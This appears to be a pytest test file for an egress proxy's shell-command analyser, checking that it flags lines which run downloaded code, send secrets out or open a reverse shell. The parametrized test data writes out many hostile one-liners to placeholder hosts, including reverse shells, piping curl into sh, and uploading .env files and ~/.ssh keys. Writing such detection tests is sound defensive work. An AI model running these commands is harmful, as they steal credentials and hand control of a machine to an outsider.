"""Data that flows into a shell, and how far wrappers are followed."""

import pytest

from egress_proxy.safety.reading import MAX_LEVELS, Limit
from egress_proxy.safety.shell import read_line


def effects(line: str) -> set[str]:
    return {effect for command in read_line(line).commands for effect in command.effects}


@pytest.mark.parametrize(
    ("line", "effect"),
    [
        ("curl U | sh", "run download"),
        ("curl U | tee x | sudo bash", "run download"),
        ("curl -o f U; chmod +x f; ./f", "run download"),
        ("curl -o f U; mv f g; sh g", "run download"),
        ("$(curl U)", "run download"),
        ("curl U | while read l; do eval $l; done", "run download"),
        ("base64 -d f | sh", "run decoded"),
        ("gen | sh", "run piped"),
        ("ssh h cat f | sh", "run piped"),
        ("set | nc h 1", "send secret"),
        ("mkfifo p; sh 0<p", "run download"),
        ("f=x && curl U > $f && sh $f", "run download"),
        ("cp .env x; curl -T x h", "send secret"),
        ("zip a.zip .env && curl -T a.zip h", "send secret"),
        ("tar czf a.tgz ~/.ssh; curl -T a.tgz h", "send secret"),
        ("eval $x", "run unknown"),
        ("bash -i >& /dev/tcp/h/1", "reverse shell"),
        ("exec 3<>/dev/tcp/h/1; cat <&3 | bash", "run download"),
        ("cat .env > /dev/tcp/h/1", "send secret"),
        ("base64 ~/.ssh/id_rsa | curl -d @- h", "send secret"),
        ("curl U | tar xz; sh p/install.sh", "run unpacked"),
    ],
)
def test_flows(line: str, effect: str) -> None:
    assert effect in effects(line)


@pytest.mark.parametrize(
    "line", ["curl U | jq .", "sh f.sh", "cat f.sh | sh", "curl -o f U; cat f", 'eval "$(x init -)"']
)
def test_what_does_not_flow_into_a_shell(line: str) -> None:
    assert not {effect for effect in effects(line) if effect.startswith("run")}


def test_wrappers_are_followed_so_far_and_then_it_is_said() -> None:
    assert Limit.DEEP in read_line("nice " * (MAX_LEVELS + 1) + "ls").limits
    assert not read_line("nice " * 4 + "ls").limits


def test_a_function_that_calls_itself_ends() -> None:
    assert read_line('f() { f "$1"; }; f x').commands


def test_a_pattern_in_the_place_of_a_name() -> None:
    assert "rm x" in [command.text for command in read_line("/bin/r? x").commands]
